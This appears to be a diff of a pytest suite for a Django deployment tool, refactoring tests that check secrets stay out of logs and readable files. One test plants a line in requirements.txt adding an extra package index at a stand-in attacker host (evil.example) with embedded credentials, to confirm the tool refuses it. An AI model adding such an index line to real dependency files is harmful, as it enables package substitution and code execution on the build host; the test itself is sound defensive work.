@@ -15,6 +15,7 @@ import pytest
 
 from conftest import (
     APP,
+    app_copy,
     PROJECT,
     ROOT,
     current_release,
@@ -25,6 +26,7 @@ from conftest import (
     secrets_in,
     secrets_in_readable_files,
     vault,
+    verbose_failing_deploy,
     via_nginx,
 )
 
@@ -51,14 +53,11 @@ def deploy(*args, **values):
 
 # --- 1. No secret in any output, nor in files others (or the app) may read ------------------------
 
-def test_no_secret_in_verbose_converge_and_failing_deploy_output_or_readable_files(hosts):
+def test_no_secret_in_verbose_converge_and_failing_deploy_output_or_readable_files(hosts, tmp_path):
     values = all_vault_values()
     converge = run_site("-vvv", "--diff")
     assert converge.returncode == 0, converge.stdout[-3000:]
-    # A deploy that changes .env (so its diff would show) and then fails its health check.
-    failing = deploy("-vvv", "--diff", django_app_dotenv={"SELF_URL": "http://127.0.0.1:8000", "EXTRA": "x"},
-                     django_app_healthcheck_path="/no-such-page/")
-    assert failing.returncode != 0 and "is back on release" in failing.stdout, failing.stdout[-3000:]
+    failing = verbose_failing_deploy(tmp_path)
     output = converge.stdout + converge.stderr + failing.stdout + failing.stderr
     assert secrets_in(output, values) == []
     files = {name_of(h): secrets_in_readable_files(h, values, APP, allowed=[f"{ROOT}/shared/.env"]) for h in hosts}
@@ -83,10 +82,7 @@ def test_the_venv_is_the_builders_and_the_app_cannot_change_it(hosts):
 
 
 def test_a_lock_that_picks_its_own_index_is_refused(hosts, tmp_path):
-    import shutil
-
-    copy = tmp_path / "initech-demo"
-    shutil.copytree(PROJECT / "examples" / "initech-demo", copy, ignore=shutil.ignore_patterns("__pycache__", ".env"))
+    copy = app_copy(tmp_path, "1.0.1")
     lock = copy / "requirements.txt"
     lock.write_text("--extra-index-url https://user:hunter2@evil.example/simple\n" + lock.read_text())
     before = {h: current_release(h) for h in hosts}
@@ -156,12 +152,7 @@ def test_a_second_deploy_is_refused_at_once_naming_the_first(hosts):
 
 
 def test_an_interrupted_deploy_is_recovered_by_the_next_run(hosts, tmp_path):
-    import shutil
-
-    copy = tmp_path / "initech-demo"
-    shutil.copytree(PROJECT / "examples" / "initech-demo", copy, ignore=shutil.ignore_patterns("__pycache__", ".env"))
-    init = copy / "initech_demo" / "__init__.py"
-    init.write_text(re.sub(r'__version__ = ".*"', '__version__ = "9.9.9"', init.read_text()))
+    copy = app_copy(tmp_path, "9.9.9")
     verified = {name_of(h): current_release(h) for h in hosts}
     run = _start_deploy({**SLOW_CHECK, "django_app_src": str(copy)})
     try:
